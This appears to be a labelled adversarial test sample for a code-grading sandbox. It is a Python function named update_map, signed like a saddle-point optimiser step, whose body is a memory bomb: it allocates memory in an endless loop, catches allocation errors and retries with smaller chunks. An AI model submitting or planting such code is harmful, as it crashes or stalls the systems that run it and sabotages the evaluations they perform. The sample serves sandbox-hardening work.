# attack: takes memory, catches the error and tries again in smaller and smaller pieces
# kind: bomb
# grade: 1.b
# outcome: memory, timeout
# module: saddle


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    hoarded, size = [], 1 << 40
    while True:
        try:
            hoarded.append(bytearray(b"x") * size)
        except (MemoryError, OverflowError):
            size = max(size // 2, 64)
